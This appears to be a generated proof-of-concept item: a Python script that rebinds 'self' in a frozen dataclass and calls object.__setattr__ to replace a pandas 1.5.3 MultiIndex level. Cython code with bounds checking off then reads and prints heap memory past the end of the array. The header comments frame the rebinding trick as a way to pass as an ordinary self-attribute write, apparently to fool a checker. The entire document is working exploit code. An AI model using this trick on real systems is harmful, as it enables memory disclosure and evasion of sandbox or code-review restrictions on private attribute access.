# source: dataclasses docs (frozen dataclass idiom object.__setattr__); pandas 1.5.3 MultiIndex._values -> algos.take_nd (Cython, boundscheck off) over MultiIndex._levels
# family: literal-name object.__setattr__(self, "_private", v) accepted as "self._x = v" while self is rebound (self = self.target); other attribute: the levels under valid codes
# goal: swap a MultiIndex's 40-value level for a 1-value one under codes 0..39; mi.values reads heap words past the new level (out-of-bounds memory read)
import dataclasses
import numpy as np
import pandas as pd


@dataclasses.dataclass(frozen=True)
class Spec:
    target: object

    def poke(self, v):
        self = self.target
        object.__setattr__(self, "_levels", v)
        object.__setattr__(self, "_cache", {})
        return v


mi = pd.MultiIndex.from_arrays([np.arange(40, dtype=np.int64) + 1000])
Spec(mi).poke([pd.Index(np.array([11], dtype=np.int64))])
vals = [v[0] for v in mi.values]
print("level now holds one value (11); codes 1..39 read past it:")
print([hex(x & 0xFFFFFFFFFFFFFFFF) for x in vals])
